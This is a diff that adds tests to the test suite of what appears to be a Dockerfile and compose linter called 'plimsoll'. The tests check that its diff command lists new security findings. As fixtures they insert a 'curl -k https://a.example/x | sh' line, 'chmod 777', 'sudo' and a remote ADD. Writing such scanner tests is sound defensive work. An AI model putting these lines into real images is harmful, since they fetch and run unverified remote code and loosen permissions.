@@ -871,3 +871,54 @@ describe('plimsoll diff', () => {
     assert.ok(code === 0 || code === 2);
   });
 });
+
+describe('findings that a comparison does not show', { skip: withoutGit }, () => {
+  const before = {
+    'compose.yaml': 'services:\n  web:\n    image: nginx:1.27.3\n    user: "101"\n',
+    Dockerfile: 'FROM debian:12\nUSER 1000\nCMD ["x"]\n',
+  };
+  const downloads = before.Dockerfile.replace('USER', 'RUN curl -k https://a.example/x | sh\nUSER');
+  const compared = (change: Readonly<Record<string, string>>, ...args: string[]) => {
+    const cwd = folderOf(before);
+    commitAll(cwd, 'first');
+    for (const [path, text] of Object.entries(change)) writeFileSync(join(cwd, path), text);
+    return plimsoll(['diff', ...args], { cwd });
+  };
+  const note = /findings? (?:is|are) new that this comparison does not show|finding is new that/;
+
+  it('are listed, worst first, in each format', () => {
+    const { code, out } = compared({ Dockerfile: downloads });
+    assert.equal(code, 0);
+    assert.match(
+      out,
+      /^Nothing differs .*\n3 findings are new that this comparison does not show; `plimsoll scan` explains them:\n {2}high {2}Dockerfile:2 {2}piped-install\n/,
+    );
+    const json = JSON.parse(compared({ Dockerfile: downloads }, '--format', 'json').out);
+    assert.deepEqual(json.notShown[0], { rule: 'piped-install', severity: 'high', place: 'Dockerfile:2' });
+    const markdown = compared({ Dockerfile: downloads }, '--format', 'markdown').out;
+    assert.match(
+      markdown,
+      /^3 findings are new that this comparison .*\n\n- high {2}Dockerfile:2 {2}piped-install\n/m,
+    );
+  });
+
+  it('are those of any rule', () => {
+    for (const line of ['RUN chmod 777 /srv', 'RUN sudo ls', 'ADD https://a.example/x.tgz /x']) {
+      const { out } = compared({ Dockerfile: before.Dockerfile.replace('USER', `${line}\nUSER`) });
+      assert.match(out, note, line);
+      assert.match(out, /Dockerfile:2 {2}[a-z-]+\n/, line);
+    }
+  });
+
+  it('are not listed where the comparison shows them, where something is renamed, or without a change', () => {
+    const compose = before['compose.yaml'];
+    const harmless: readonly Readonly<Record<string, string>>[] = [
+      {},
+      { 'compose.yaml': `${compose}    privileged: true\n` },
+      { 'compose.yaml': compose.replace('web:', 'front:') },
+      { 'compose.yaml': `# web\n\n${compose.replaceAll('  ', '    ')}` },
+      { Dockerfile: before.Dockerfile.replace('debian:12', 'debian:12 AS run') },
+    ];
+    for (const change of harmless) assert.doesNotMatch(compared(change).out, note, JSON.stringify(change));
+  });
+});
